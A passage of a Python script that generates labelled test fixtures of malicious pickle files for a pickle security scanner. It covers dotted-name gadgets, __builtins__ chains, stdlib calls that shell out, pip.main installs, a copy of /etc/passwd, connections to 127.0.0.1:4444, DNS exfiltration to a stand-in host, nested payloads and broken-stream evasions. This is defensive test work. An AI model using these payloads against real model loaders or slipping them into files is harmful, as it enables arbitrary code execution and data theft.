        PROTO(2) + call(GLOBAL("posix", "system"), X(CMD)) + BINPUT(5) + POP + NONE + STOP,
        "unsafe", "PKL001", "call result kept only in the memo, never used", ops=["REDUCE", "BINPUT"])


# ---------------------------------------------------------------------------
# B22 - dotted attribute names
# ---------------------------------------------------------------------------

def gen_b22():
    add("B22", "dotted_pathlib_os_system_recipe",
        b"\x80\x04" + sbu("pathlib") + sbu("os.system") + b"\x93" + sbu(CMD) + b"\x85R.",
        "unsafe", "PKL001", "reference recipe: STACK_GLOBAL('pathlib','os.system') called",
        ops=["STACK_GLOBAL", "REDUCE"])
    add("B22", "dotted_pathlib_os_system_global",
        PROTO(4) + call(GLOBAL("pathlib", "os.system"), sbu(CMD)) + STOP,
        "unsafe", "PKL001", "GLOBAL 'pathlib os.system' called", ops=["GLOBAL", "REDUCE"])
    add("B22", "numpy_internal_sys_modules_ref",
        PROTO(4) + EMPTY_DICT + sbu("m") + GLOBAL("numpy", "core._internal.sys.modules") + SETITEM
        + STOP, "unsafe", "PKL002",
        "reference only: GLOBAL 'numpy core._internal.sys.modules' stored in a dict",
        ops=["GLOBAL", "SETITEM"])
    add("B22", "numpy_internal_sys_modules_get_sg",
        PROTO(4) + call(SG("numpy", "core._internal.sys.modules.get"), sbu("posix")) + STOP,
        "unsafe", "PKL001", "STACK_GLOBAL numpy + core._internal.sys.modules.get called with 'posix'",
        ops=["STACK_GLOBAL", "REDUCE"])
    add("B22", "builtins_eval_call_attr",
        PROTO(4) + call(GLOBAL("builtins", "eval.__call__"), sbu(CODE)) + STOP,
        "unsafe", "PKL001", "GLOBAL 'builtins eval.__call__' called (modelscan malicious13)",
        ops=["GLOBAL", "REDUCE"])
    add("B22", "torch_utils_os_system_sg",
        PROTO(4) + FRAME(call(SG("torch", "_utils.os.system"), sbu(CMD)) + STOP),
        "unsafe", "PKL001", "STACK_GLOBAL torch + _utils.os.system called (framed)",
        ops=["STACK_GLOBAL", "REDUCE"])
    add("B22", "torch_utils_os_system_global",
        PROTO(4) + call(GLOBAL("torch", "_utils.os.system"), sbu(CMD)) + STOP,
        "unsafe", "PKL001", "GLOBAL 'torch _utils.os.system' called", ops=["GLOBAL", "REDUCE"])
    add("B22", "dotted_in_proto2",
        PROTO(2) + call(GLOBAL("pathlib", "os.system"), X(CMD)) + STOP,
        "unsafe", "PKL001",
        "dotted name at protocol 2 (CPython 3.11 refuses, other unpicklers resolve it)",
        ops=["GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B23 - __builtins__ via an innocuous module
# ---------------------------------------------------------------------------

def gen_b23():
    data = (b"\x80\x04cbuiltins\ndict.get\nccollections\n__builtins__\nX\x04\x00\x00\x00eval\x86R"
            b"X\x0f\x00\x00\x00print('pwned9')\x85R.")
    add("B23", "builtins_dict_get_recipe", data, "unsafe", "PKL001",
        "reference recipe: dict.get(collections.__builtins__, 'eval')(code)",
        ops=["GLOBAL", "REDUCE"])
    data = PROTO(4) + call(call(SG("collections", "__builtins__.get"), sbu("eval")), sbu(CODE)) + STOP
    add("B23", "collections_builtins_get_sg", data, "unsafe", "PKL001",
        "STACK_GLOBAL collections + __builtins__.get('eval') then call", ops=["STACK_GLOBAL", "REDUCE"])
    data = (PROTO(4) + call(call(GLOBAL("numpy", "__builtins__.__getitem__"), sbu("exec")), sbu(CODE))
            + STOP)
    add("B23", "numpy_builtins_getitem", data, "unsafe", "PKL001",
        "GLOBAL 'numpy __builtins__.__getitem__'('exec') then call", ops=["GLOBAL", "REDUCE"])
    data = (PROTO(5) + FRAME(call(call(SG("builtins", "dict.get"), SG("torch", "__builtins__"),
                                       sbu("exec")), sbu(CODE)) + STOP))
    add("B23", "torch_builtins_as_argument", data, "unsafe", "PKL001",
        "torch.__builtins__ referenced by STACK_GLOBAL and passed to dict.get (protocol 5, framed)",
        ops=["STACK_GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B24 - dunder chains with builtins only
# ---------------------------------------------------------------------------

def gen_b24():
    subs = call(GLOBAL("builtins", "print.__class__.__base__.__subclasses__"))
    gadget = call(GLOBAL("builtins", "list.__getitem__"), subs, BININT(137))
    data = (PROTO(4) + call(GLOBAL("builtins", "__setattr__"), sbu("gadget"), gadget) + POP
            + call(call(GLOBAL("builtins", "gadget.__init__.__builtins__.__getitem__"), sbu("eval")),
                   sbu(CODE)) + STOP)
    add("B24", "subclasses_gadget_chain", data, "unsafe", "PKL001",
        "builtins __setattr__ + print.__class__.__base__.__subclasses__ + gadget.__init__.__builtins__"
        ".__getitem__('eval')", ops=["GLOBAL", "REDUCE", "POP"])
    data = (PROTO(4) + call(call(GLOBAL("builtins", "dict.get"),
                                 call(SG("collections", "namedtuple.__globals__.get"),
                                      sbu("__builtins__")), sbu("eval")), sbu(CODE)) + STOP)
    add("B24", "function_globals_chain", data, "unsafe", "PKL001",
        "STACK_GLOBAL collections + namedtuple.__globals__.get('__builtins__') -> eval",
        ops=["STACK_GLOBAL", "REDUCE"])
    data = PROTO(4) + call(SG("builtins", "type.__subclasses__"), GLOBAL("builtins", "object")) + STOP
    add("B24", "type_subclasses_sg", data, "unsafe", "PKL001",
        "STACK_GLOBAL builtins + type.__subclasses__ called on builtins.object",
        ops=["STACK_GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B25 - multiple pickles
# ---------------------------------------------------------------------------

def gen_b25():
    tail = b"\x80\x02cposix\nsystem\n" + X(CMD) + b"\x85R."
    add("B25", "appended_stream_recipe", dumps_benign(["a"], 4) + tail, "unsafe", "PKL001",
        "reference recipe: benign ['a'] pickle, then a second pickle calling posix.system",
        ops=["GLOBAL", "REDUCE"])
    junk = bytes((0xF0 + (i % 16)) for i in range(300))      # 300 bytes of invalid opcodes
    add("B25", "junk_between_streams", dumps_benign({"a": 1}, 2) + junk + PAY_P2,
        "unsafe", "PKL001", "benign pickle, 300 bytes of junk (beyond a 256-byte resync), payload",
        ops=["GLOBAL", "REDUCE"], err=True)
    stacked = (dumps_benign(0x1950A86A20F9469CFC6C, 2) + dumps_benign(1001, 2)
               + dumps_benign({}, 2) + dumps_benign([], 2) + PAY_P2)
    add("B25", "payload_in_pickle5", stacked, "unsafe", "PKL001",
        "five stacked protocol-2 pickles (legacy torch magic, 1001, {}, []), payload in #5",
        ops=["LONG1", "GLOBAL", "REDUCE"])
    add("B25", "proto0_then_proto5", dumps_benign(["x", 1], 0) + PAY_P5, "unsafe", "PKL001",
        "benign protocol-0 pickle followed by a framed protocol-5 payload",
        ops=["FRAME", "STACK_GLOBAL", "REDUCE"])
    add("B25", "proto4_then_proto0", dumps_benign({"w": [1, 2]}, 4) + PAY_P0, "unsafe", "PKL001",
        "benign framed protocol-4 pickle followed by a protocol-0 payload without PROTO",
        ops=["FRAME", "GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B26 - pip.main
# ---------------------------------------------------------------------------

PIP_ARGS = ["install", "some_malicious_package", "--no-input", "-q", "-q", "-q",
            "--exists-action", "i", "--isolated"]


def gen_b26():
    arglist = EMPTY_LIST + MARK + b"".join(sbu(a) for a in PIP_ARGS) + APPENDS
    add("B26", "pip_main_sg", PROTO(4) + call(SG("pip", "main"), arglist) + STOP, "unsafe",
        "PKL001", "pip.main(['install', ...]) via STACK_GLOBAL (CVE-2025-1716)",
        ops=["STACK_GLOBAL", "REDUCE"])
    arglist0 = MARK + b"".join(V(a) for a in PIP_ARGS) + LIST
    add("B26", "pip_main_p0", call0(GLOBAL("pip", "main"), arglist0) + STOP, "unsafe", "PKL001",
        "pip.main via protocol-0 GLOBAL with a MARK/LIST argument", ops=["GLOBAL", "REDUCE"])
    add("B26", "pip_internal_main_inst",
        MARK + arglist0 + INST("pip._internal.cli.main", "main") + STOP, "unsafe", "PKL001",
        "pip._internal.cli.main.main called by INST", ops=["INST"])


# ---------------------------------------------------------------------------
# B27 - universal name resolvers
# ---------------------------------------------------------------------------

def gen_b27():
    add("B27", "pkgutil_resolve_name",
        PROTO(4) + call(call(SG("pkgutil", "resolve_name"), sbu("os:system")), sbu(CMD)) + STOP,
        "unsafe", "PKL001", "pkgutil.resolve_name('os:system') then call the result",
        ops=["STACK_GLOBAL", "REDUCE"])
    add("B27", "importlib_import_module",
        PROTO(2) + call(GLOBAL("importlib", "import_module"), X("os")) + STOP, "unsafe", "PKL001",
        "importlib.import_module('os')", ops=["GLOBAL", "REDUCE"])
    data = (b"\x80\x04\x8c\x07inspect\x8c\x0egetattr_static\x93\x8c\timportlib\x8c\rimport_module"
            b"\x93\x8c\x02os\x85R\x8c\x06system\x86R\x8c\x19echo pwned-getattr_static\x85R.")
    add("B27", "getattr_static_import_module", data, "unsafe", "PKL001",
        "inspect.getattr_static(importlib.import_module('os'), 'system')(cmd)",
        ops=["STACK_GLOBAL", "REDUCE"])
    data = (PROTO(4) + call(call(SG("operator", "methodcaller"), sbu("system"), sbu(CMD)),
                            call(SG("pydoc", "locate"), sbu("posix"))) + STOP)
    add("B27", "pydoc_locate_methodcaller", data, "unsafe", "PKL001",
        "operator.methodcaller('system', cmd)(pydoc.locate('posix'))", ops=["STACK_GLOBAL", "REDUCE"])
    data = (PROTO(2) + call(call(call(GLOBAL("_operator", "attrgetter"), X("system")),
                                 call(GLOBAL("importlib", "import_module"), X("posix"))), X(CMD))
            + STOP)
    add("B27", "underscore_operator_attrgetter", data, "unsafe", "PKL001",
        "_operator.attrgetter('system')(import_module('posix'))(cmd) - _operator alias",
        ops=["GLOBAL", "REDUCE"])
    data = (PROTO(2) + call(call(call(GLOBAL("_operator", "itemgetter"), X("eval")),
                                 GLOBAL("collections", "__builtins__")), X(CODE)) + STOP)
    add("B27", "underscore_operator_itemgetter", data, "unsafe", "PKL001",
        "_operator.itemgetter('eval')(collections.__builtins__)(code)", ops=["GLOBAL", "REDUCE"])
    data = (PROTO(4) + call(call(SG("builtins", "getattr"),
                                 call(SG("builtins", "__import__"), sbu("posix")), sbu("system")),
                            sbu(CMD)) + STOP)
    add("B27", "builtins_getattr_sg", data, "unsafe", "PKL001",
        "STACK_GLOBAL builtins + getattr(__import__('posix'), 'system')(cmd)",
        ops=["STACK_GLOBAL", "REDUCE"])
    data = (call0(call0(GLOBAL("builtins", "getattr"),
                        call0(GLOBAL("builtins", "__import__"), V("posix")), V("system")), V(CMD))
            + STOP)
    add("B27", "builtins_getattr_p0", data, "unsafe", "PKL001",
        "protocol-0 GLOBAL builtins getattr(__import__('posix'), 'system')(cmd)",
        ops=["GLOBAL", "REDUCE"])
    data = (PROTO(2) + call(call(GLOBAL("functools", "partial"), GLOBAL("posix", "system"), X(CMD)))
            + STOP)
    add("B27", "functools_partial", data, "unsafe", "PKL001",
        "functools.partial(posix.system, cmd)() - the partial object is then called",
        ops=["GLOBAL", "REDUCE"])
    popen_state = EMPTY_LIST + MARK + X("sh") + X("-c") + X(CMD) + APPENDS
    data = (PROTO(2) + call(GLOBAL("copyreg", "_reconstructor"), GLOBAL("subprocess", "Popen"),
                            GLOBAL("subprocess", "Popen"), popen_state) + STOP)
    add("B27", "copyreg_reconstructor_popen_base", data, "unsafe", "PKL001",
        "copyreg._reconstructor(Popen, Popen, argv): non-builtin base runs Popen.__init__(argv)",
        ops=["GLOBAL", "REDUCE"])
    data = (PROTO(2) + call(GLOBAL("copyreg", "_reconstructor"), GLOBAL("collections", "OrderedDict"),
                            GLOBAL("posix", "system"), X(CMD)) + STOP)
    add("B27", "copyreg_reconstructor_system_base", data, "unsafe", "PKL001",
        "copyreg._reconstructor(OrderedDict, posix.system, cmd): denied callable as base",
        ops=["GLOBAL", "REDUCE"])
    data = PROTO(4) + call(call(SG("pydoc", "locate"), sbu("posix.system")), sbu(CMD)) + STOP
    add("B27", "pydoc_locate_dotted", data, "unsafe", "PKL001",
        "pydoc.locate('posix.system') then call the result", ops=["STACK_GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B28 - code execution via harmless-looking stdlib APIs
# ---------------------------------------------------------------------------

def gen_b28():
    add("B28", "runpy_run_code",
        PROTO(4) + call(SG("runpy", "_run_code"), sbu(CODE), EMPTY_DICT) + STOP,
        "unsafe", "PKL001", "runpy._run_code(code, {})", ops=["STACK_GLOBAL", "REDUCE"])
    add("B28", "timeit_timeit_p0", call0(GLOBAL("timeit", "timeit"), V(""), V(CODE)) + STOP,
        "unsafe", "PKL001", "timeit.timeit('', setup=code), protocol 0", ops=["GLOBAL", "REDUCE"])
    add("B28", "cprofile_run", PROTO(2) + call(GLOBAL("cProfile", "run"), X(CODE)) + STOP,
        "unsafe", "PKL001", "cProfile.run(code)", ops=["GLOBAL", "REDUCE"])
    add("B28", "pdb_run_inst", MARK + V(CODE) + INST("pdb", "run") + STOP, "unsafe", "PKL001",
        "pdb.run(code) by INST", ops=["INST"])
    add("B28", "profile_run_obj", MARK + GLOBAL("profile", "run") + V(CODE) + OBJ + STOP,
        "unsafe", "PKL001", "profile.run(code) by OBJ", ops=["OBJ"])
    add("B28", "bdb_run_method",
        PROTO(4) + call(GLOBAL("bdb", "Bdb.run"), call(GLOBAL("bdb", "Bdb")), sbu(CODE)) + STOP,
        "unsafe", "PKL001", "bdb.Bdb.run(Bdb(), code) via a dotted method name",
        ops=["GLOBAL", "REDUCE"])
    add("B28", "code_interpreter_runsource",
        PROTO(4) + call(SG("code", "InteractiveInterpreter.runsource"),
                        call(SG("code", "InteractiveInterpreter")), sbu(CODE)) + STOP,
        "unsafe", "PKL001", "code.InteractiveInterpreter.runsource(instance, code)",
        ops=["STACK_GLOBAL", "REDUCE"])
    add("B28", "doctest_debug_script",
        PROTO(2) + call(GLOBAL("doctest", "debug_script"), X(CODE)) + STOP, "unsafe", "PKL001",
        "doctest.debug_script(src)", ops=["GLOBAL", "REDUCE"])
    add("B28", "numpy_testing_runstring",
        PROTO(2) + call(GLOBAL("numpy.testing._private.utils", "runstring"), X(CODE), EMPTY_DICT)
        + STOP, "unsafe", "PKL001", "numpy.testing._private.utils.runstring(code, {})",
        ops=["GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B29 - stdlib functions that shell out
# ---------------------------------------------------------------------------

def gen_b29():
    add("B29", "uuid_get_command_stdout",
        PROTO(4) + sbu("uuid") + sbu("_get_command_stdout") + STACK_GLOBAL + sbu("echo") + sbu("X")
        + TUPLE2 + REDUCE + STOP, "unsafe", "PKL001",
        "uuid._get_command_stdout('echo', 'X') (fickling test recipe)", ops=["STACK_GLOBAL", "REDUCE"])
    argv = EMPTY_LIST + MARK + X("sh") + X("-c") + X(CMD) + APPENDS
    add("B29", "pty_spawn", PROTO(2) + call(GLOBAL("pty", "spawn"), argv) + STOP, "unsafe", "PKL001",
        "pty.spawn(['sh', '-c', cmd])", ops=["GLOBAL", "REDUCE"])
    add("B29", "osx_support_read_output_p0",
        call0(GLOBAL("_osx_support", "_read_output"), V(CMD)) + STOP, "unsafe", "PKL001",
        "_osx_support._read_output(cmd), protocol 0", ops=["GLOBAL", "REDUCE"])
    add("B29", "aix_support_read_cmd_output_obj",
        MARK + GLOBAL("_aix_support", "_read_cmd_output") + X(CMD) + OBJ + STOP, "unsafe", "PKL001",
        "_aix_support._read_cmd_output(cmd) by OBJ", ops=["OBJ"])
    add("B29", "imaplib_imap4_stream",
        PROTO(4) + call(SG("imaplib", "IMAP4_stream"), sbu(CMD)) + STOP, "unsafe", "PKL001",
        "imaplib.IMAP4_stream(cmd) - class call spawns the command", ops=["STACK_GLOBAL", "REDUCE"])
    add("B29", "pydoc_pipepager",
        PROTO(2) + call(GLOBAL("pydoc", "pipepager"), X("text"), X(CMD)) + STOP, "unsafe", "PKL001",
        "pydoc.pipepager('text', cmd)", ops=["GLOBAL", "REDUCE"])
    add("B29", "subprocess_getoutput_inst", MARK + V(CMD) + INST("subprocess", "getoutput") + STOP,
        "unsafe", "PKL001", "subprocess.getoutput(cmd) by INST", ops=["INST"])
    add("B29", "os_popen", PROTO(2) + call(GLOBAL("os", "popen"), X(CMD)) + STOP, "unsafe", "PKL001",
        "os.popen(cmd)", ops=["GLOBAL", "REDUCE"])
    add("B29", "subprocess_check_output_sg",
        PROTO(4) + call(SG("subprocess", "check_output"), argv) + STOP, "unsafe", "PKL001",
        "subprocess.check_output(argv) via STACK_GLOBAL", ops=["STACK_GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B30 - file and network primitives
# ---------------------------------------------------------------------------

def gen_b30():
    add("B30", "shutil_copy",
        PROTO(4) + call(SG("shutil", "copy"), sbu("/etc/passwd"), sbu("/tmp/brine-exfil")) + STOP,
        "unsafe", "PKL001", "shutil.copy('/etc/passwd', '/tmp/brine-exfil')",
        ops=["STACK_GLOBAL", "REDUCE"])
    add("B30", "logging_filehandler",
        PROTO(2) + call(GLOBAL("logging", "FileHandler"), X("/tmp/brine-x")) + STOP, "unsafe",
        "PKL001", "logging.FileHandler(path) creates/truncates a file", ops=["GLOBAL", "REDUCE"])
    add("B30", "io_fileio_obj",
        MARK + GLOBAL("_io", "FileIO") + V("/tmp/brine-x") + V("w") + OBJ + STOP, "unsafe", "PKL001",
        "_io.FileIO(path, 'w') by OBJ (pickled name of io.FileIO)", ops=["OBJ"])
    add("B30", "ctypes_cdll", PROTO(2) + call(GLOBAL("ctypes", "CDLL"), X("libc.so.6")) + STOP,
        "unsafe", "PKL001", "ctypes.CDLL('libc.so.6')", ops=["GLOBAL", "REDUCE"])
    add("B30", "socket_create_connection",
        PROTO(4) + call(SG("socket", "create_connection"), tup(sbu("127.0.0.1"), BININT(4444)))
        + STOP, "unsafe", "PKL001", "socket.create_connection(('127.0.0.1', 4444))",
        ops=["STACK_GLOBAL", "REDUCE"])
    add("B30", "urllib_request_urlopen_p3",
        PROTO(3) + call(GLOBAL("urllib.request", "urlopen"), X("http://127.0.0.1:8000/x")) + STOP,
        "unsafe", "PKL001", "urllib.request.urlopen(url), protocol 3", ops=["GLOBAL", "REDUCE"])
    add("B30", "webbrowser_open_p0",
        call0(GLOBAL("webbrowser", "open"), V("http://127.0.0.1:8000/x")) + STOP, "unsafe", "PKL001",
        "webbrowser.open(url), protocol 0", ops=["GLOBAL", "REDUCE"])
    add("B30", "ssl_get_server_certificate",
        PROTO(4) + call(SG("ssl", "get_server_certificate"),
                        tup(sbu("exfil.brine.invalid"), BININT(443))) + STOP,
        "unsafe", "PKL001", "ssl.get_server_certificate((host, 443)) - DNS exfiltration",
        ops=["STACK_GLOBAL", "REDUCE"])
    add("B30", "builtins_open",
        PROTO(4) + call(SG("builtins", "open"), sbu("/tmp/brine-x"), sbu("w")) + STOP,
        "unsafe", "PKL001", "builtins.open(path, 'w')", ops=["STACK_GLOBAL", "REDUCE"])
    add("B30", "requests_get",
        PROTO(2) + call(GLOBAL("requests.api", "get"), X("http://127.0.0.1:8000/x")) + STOP,
        "unsafe", "PKL001", "requests.api.get(url)", ops=["GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B31 - ML-framework gadgets
# ---------------------------------------------------------------------------

def gen_b31():
    add("B31", "torch_collect_env_run",
        PROTO(2) + call(GLOBAL("torch.utils.collect_env", "run"), X(CMD)) + STOP, "unsafe", "PKL001",
        "torch.utils.collect_env.run(cmd)", ops=["GLOBAL", "REDUCE"])
    add("B31", "torch_jit_execwrapper",
        PROTO(4) + call(SG("torch.jit.unsupported_tensor_ops", "execWrapper"), sbu(CODE),
                        EMPTY_DICT, EMPTY_DICT) + STOP, "unsafe", "PKL001",
        "torch.jit.unsupported_tensor_ops.execWrapper(code, {}, {})", ops=["STACK_GLOBAL", "REDUCE"])
    add("B31", "torch_bottleneck_run_cprofile",
        PROTO(4) + call(GLOBAL("torch.utils.bottleneck.__main__", "run_cprofile"), sbu(CODE),
                        EMPTY_DICT) + STOP, "unsafe", "PKL001",
        "torch.utils.bottleneck.__main__.run_cprofile(code, {})", ops=["GLOBAL", "REDUCE"])
    argv = EMPTY_LIST + MARK + X("sh") + X("-c") + X(CMD) + APPENDS
    add("B31", "torch_inductor_compile_file",
        PROTO(2) + call(GLOBAL("torch._inductor.codecache", "compile_file"), X("/tmp/a.c"),
                        X("/tmp/a.so"), argv) + STOP, "unsafe", "PKL001",
        "torch._inductor.codecache.compile_file(in, out, argv)", ops=["GLOBAL", "REDUCE"])
    add("B31", "mlflow_run_entry_point",
        PROTO(2) + call(GLOBAL("mlflow.projects.backend.local", "_run_entry_point"), X(CMD),
                        X("/tmp"), X("0"), X("0")) + STOP, "unsafe", "PKL001",
        "mlflow.projects.backend.local._run_entry_point(cmd, dir, exp, run) - 4 args via MARK/TUPLE",
        ops=["GLOBAL", "TUPLE", "REDUCE"])


# ---------------------------------------------------------------------------
# B32 - nested loaders and nested pickles
# ---------------------------------------------------------------------------

def gen_b32():
    inner = PAY_P2
    ops_in = ["GLOBAL", "REDUCE"]
    add("B32", "underscore_pickle_loads_binbytes",
        PROTO(4) + call(SG("_pickle", "loads"), B(inner)) + STOP, "unsafe", "PKL007",
        "_pickle.loads(BINBYTES holding a posix.system pickle)", ops=["BINBYTES", "REDUCE"],
        inner=[("inner", inner, ops_in)])
    add("B32", "nested_short_binbytes",
        PROTO(3) + EMPTY_DICT + X("blob") + C(inner) + SETITEM + STOP, "unsafe", "PKL007",
        "payload pickle stored as SHORT_BINBYTES in a plain dict (no loader call)",
        ops=["SHORT_BINBYTES"], inner=[("inner", inner, ops_in)])
    add("B32", "nested_binbytes8",
        PROTO(4) + EMPTY_DICT + sbu("blob") + B8(PAY_P4) + SETITEM + STOP, "unsafe", "PKL007",
        "protocol-4 payload pickle stored as BINBYTES8", ops=["BINBYTES8"],
        inner=[("inner", PAY_P4, ["STACK_GLOBAL", "REDUCE"])])
    add("B32", "nested_bytearray8",
        PROTO(5) + EMPTY_DICT + sbu("buf") + BA8(PAY_P5) + SETITEM + STOP, "unsafe", "PKL007",
        "protocol-5 payload pickle stored as BYTEARRAY8", ops=["BYTEARRAY8"],
        inner=[("inner", PAY_P5, ["STACK_GLOBAL", "REDUCE"])])
    add("B32", "nested_base64_str",
        PROTO(4) + EMPTY_DICT + sbu("payload") + X(base64.b64encode(inner).decode("ascii"))
        + SETITEM + STOP, "unsafe", "PKL007", "payload pickle as a base64 str (BINUNICODE)",
        ops=["BINUNICODE"], inner=[("inner", inner, ops_in)])
    add("B32", "nested_hex_str",
        PROTO(4) + EMPTY_DICT + sbu("payload") + X(inner.hex()) + SETITEM + STOP, "unsafe", "PKL007",
        "payload pickle as a hex str (BINUNICODE)", ops=["BINUNICODE"], inner=[("inner", inner, ops_in)])
    middle = PROTO(4) + EMPTY_DICT + sbu("blob") + B(inner) + SETITEM + STOP
    add("B32", "nested_two_levels",
        PROTO(3) + EMPTY_LIST + B(middle) + APPEND + STOP, "unsafe", "PKL007",
        "two-level nesting: BINBYTES holds a benign-looking pickle whose BINBYTES holds the payload",
        ops=["BINBYTES", "APPEND"],
        inner=[("middle", middle, ["BINBYTES"]), ("inner", inner, ops_in)])
    add("B32", "nested_string_escaped_p0",
        MARK + DICT + PUT(0) + S("blob") + S(PAY_P0) + SETITEM + STOP, "unsafe", "PKL007",
        "protocol-0 payload pickle inside a protocol-0 STRING literal with backslash escapes",
        ops=["STRING", "SETITEM"], inner=[("inner", PAY_P0, ops_in)])
    add("B32", "nested_codecs_encode_latin1",
        PROTO(2) + EMPTY_DICT + X("blob") + call(GLOBAL("_codecs", "encode"), X(inner.decode("latin-1")),
                                                 X("latin1")) + SETITEM + STOP,
        "unsafe", "PKL007", "payload pickle as protocol-2 bytes: _codecs.encode(str, 'latin1')",
        ops=["GLOBAL", "REDUCE"], inner=[("inner", inner, ops_in)])
    add("B32", "pickle_loads_benign_p0",
        call0(GLOBAL("pickle", "loads"), call0(GLOBAL("_codecs", "encode"), V("I12345\n."),
                                               V("latin1"))) + STOP, "unsafe", "PKL001",
        "pickle.loads(b'I12345\\n.') at protocol 0 (upstream Malicious13; inner pickle benign)",
        ops=["GLOBAL", "REDUCE"])
    partial_state = tup(GLOBAL("torch", "load"), tup(X("/tmp/model.bin")),
                        EMPTY_DICT + X("weights_only") + NEWFALSE + SETITEM, NONE)
    data = (PROTO(2) + call(call(GLOBAL("functools", "partial"), GLOBAL("torch", "load")) + partial_state
                            + BUILD) + STOP)
    add("B32", "torch_load_in_partial", data, "unsafe", "PKL001",
        "functools.partial(torch.load, path, weights_only=False) built via BUILD, then called",
        ops=["GLOBAL", "BUILD", "REDUCE"])
    add("B32", "numpy_load_allow_pickle",
        PROTO(2) + call(GLOBAL("numpy", "load"), X("/tmp/evil.npy"), NONE, NEWTRUE) + STOP,
        "unsafe", "PKL001", "numpy.load(path, None, True) - allow_pickle=True positionally",
        ops=["GLOBAL", "REDUCE"])
    stub = b"\xe3" + bytes(15) + b"BRINE-STUB-NOT-A-CODE-OBJECT"
    data = (PROTO(3) + call(call(GLOBAL("types", "FunctionType"),
                                 call(GLOBAL("marshal", "loads"), B(stub)), EMPTY_DICT)) + STOP)
    add("B32", "marshal_loads_functiontype", data, "unsafe", "PKL001",
        "types.FunctionType(marshal.loads(bytes), {})() (marshal bytes are a fixed inert stub)",
        ops=["GLOBAL", "REDUCE"])
    add("B32", "joblib_load",
        PROTO(4) + call(SG("joblib", "load"), sbu("/tmp/evil.joblib")) + STOP, "unsafe", "PKL001",
        "joblib.load(path) loader trampoline", ops=["STACK_GLOBAL", "REDUCE"])
    add("B32", "torch_serialization_load_bytesio",
        PROTO(3) + call(GLOBAL("torch.serialization", "load"),
                        call(GLOBAL("_io", "BytesIO"), B(inner))) + STOP, "unsafe", "PKL007",
        "torch.serialization.load(io.BytesIO(payload pickle))", ops=["GLOBAL", "BINBYTES", "REDUCE"],
        inner=[("inner", inner, ops_in)])
    add("B32", "pandas_read_pickle",
        PROTO(2) + call(GLOBAL("pandas", "read_pickle"), X("/tmp/evil.pkl")) + STOP, "unsafe",
        "PKL001", "pandas.read_pickle(path)", ops=["GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B33 - allowlist over-breadth
# ---------------------------------------------------------------------------

def gen_b33():
    add("B33", "torch_load_from_bytes",
        PROTO(2) + call(GLOBAL("torch.storage", "_load_from_bytes"), B(PAY_P2)) + STOP,
        "unsafe", "PKL007", "torch.storage._load_from_bytes(payload pickle) - nested torch.load",
        ops=["GLOBAL", "BINBYTES", "REDUCE"], inner=[("inner", PAY_P2, ["GLOBAL", "REDUCE"])])
    add("B33", "rebuild_from_type_v2_calls_arg",
        PROTO(2) + call(GLOBAL("torch._tensor", "_rebuild_from_type_v2"), GLOBAL("posix", "system"),
                        GLOBAL("builtins", "object"), tup(X(CMD)), NONE) + STOP,
        "unsafe", "PKL002",
        "torch._tensor._rebuild_from_type_v2(posix.system, object, (cmd,), None) calls its argument",
        ops=["GLOBAL", "REDUCE"])
    add("B33", "functools_partialmethod",
        PROTO(2) + call(GLOBAL("functools", "partialmethod"), GLOBAL("posix", "system"), X(CMD))
        + STOP, "unsafe", "PKL002",
        "functools.partialmethod(posix.system, cmd) - escapes substring list 'partial'",
        ops=["GLOBAL", "REDUCE"])


# ---------------------------------------------------------------------------
# B34 - payload, then a broken stream
# ---------------------------------------------------------------------------

def gen_b34():
    data = (b"\x80\x02cposix\nsystem\nq\x00X\n\x00\x00\x00echo pwnedq\x01\x85q\x02Rq\x03"
            b"\x00garbage")
    add("B34", "nullifai_broken_stream", data, "unsafe", "PKL001",
        "nullifAI recipe: payload, then invalid opcode 0x00 and garbage (no STOP)",
        ops=["GLOBAL", "REDUCE"], err=True)
    add("B34", "truncated_after_payload", PAY_P2[:-1] + b"X" + U4(100) + b"abc", "unsafe", "PKL001",
        "payload, then a BINUNICODE truncated by end of file", ops=["REDUCE"], err=True)
    add("B34", "eof_without_stop", PAY_P2[:-1], "unsafe", "PKL001",
        "payload, then end of file without STOP", ops=["REDUCE"], err=True)
    add("B34", "unknown_opcode_after_payload", PAY_P2[:-1] + b"\xff.", "unsafe", "PKL001",
        "payload, then unknown opcode 0xff", ops=["REDUCE"], err=True)
    add("B34", "proto6_after_payload", PAY_P2[:-1] + PROTO(6) + STOP, "unsafe", "PKL001",
        "payload, then PROTO 6 (unsupported protocol)", ops=["REDUCE", "PROTO"], err=None)
    body = call(SG("posix", "system"), sbu(CMD)) + b"\xfe\xfe"
    add("B34", "junk_inside_frame_after_payload", PROTO(4) + FRAME(body), "unsafe", "PKL001",
        "framed payload, then invalid opcodes inside the same frame", ops=["FRAME", "REDUCE"], err=True)


# ---------------------------------------------------------------------------
# B35 - resource exhaustion (verdict error)
# ---------------------------------------------------------------------------

def gen_b35():
    levels = 100
    data = PROTO(2) + MARK * levels + EMPTY_LIST + (DUP * 9 + TUPLE) * levels + STOP
    add("B35", "dup_billion_laughs", data, "safe", "-",
        "DUP expansion: 100 nested tuples of 10 references (10^100 leaves, ~1 KB, 900 DUPs); "
        "shared references are never expanded by brine or CPython, so this is data (fickling "
        "reports it as an attack)",
        ops=["DUP", "TUPLE"])
    levels, fan = 30, 60
    parts = [PROTO(2), EMPTY_LIST, BINPUT(0), POP]
    for lvl in range(1, levels + 1):
        parts += [MARK, BINGET(lvl - 1) * fan, LIST, BINPUT(lvl), POP]
    parts += [BINGET(levels), STOP]
    add("B35", "memo_billion_laughs", b"".join(parts), "safe", "-",
        "memo expansion: 30 levels of lists of 60 BINGETs of the previous level (60^30 leaves, "
        "~4 KB); shared references, linear work: data",
        ops=["BINGET", "LIST", "BINPUT"])
    add("B35", "deep_mark_nesting", PROTO(2) + MARK * 200000 + EMPTY_LIST + STOP, "error", "PKL014",
        "200000 nested MARKs (metastack depth), 200 KB file", ops=["MARK"])
    add("B35", "long_binput_max_index", PROTO(2) + NONE + LBINPUT(0xFFFFFFFF) + STOP, "error",
        "PKL014",
